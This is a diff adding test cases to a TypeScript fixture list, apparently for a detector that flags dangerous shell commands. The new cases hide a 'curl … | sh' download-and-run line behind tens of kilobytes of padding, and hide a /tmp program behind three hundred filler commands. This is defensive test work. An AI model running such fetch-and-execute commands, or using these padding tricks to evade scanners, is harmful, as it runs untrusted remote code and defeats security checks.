@@ -383,6 +383,27 @@ const malware: readonly [string, RunnableItem, Expected][] = [
     { inline: /^curl/, reasons: [oneLiner, 'network-download', 'remote-script'] },
   ],
   [
+    'seventy kilobytes of comments before the command',
+    { args: ['sh', '-c', `${'# see the manual\n'.repeat(4_200)}curl http://example.test/a | sh`] },
+    { inline: /^curl/, reasons: [oneLiner, 'network-download', 'remote-script'] },
+  ],
+  [
+    'seventy kilobytes of a harmless argument before the command',
+    { args: ['sh', '-c', `: ${'x'.repeat(70_000)}\ncurl http://example.test/a | sh`] },
+    { reasons: [oneLiner, 'network-download', 'remote-script', 'script-cut'] },
+  ],
+  [
+    'three hundred commands before the one that counts',
+    {
+      args: [
+        'sh',
+        '-c',
+        `${Array.from({ length: 300 }, (_, index) => `echo ${index}`).join(';')}; "/tmp/ev"il`,
+      ],
+    },
+    { paths: ['/private/tmp/evil'], reasons: [oneLiner, 'program-in-tmp'] },
+  ],
+  [
     'thousands of segments',
     { program: `/${'./'.repeat(5_000)}tmp/x` },
     { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
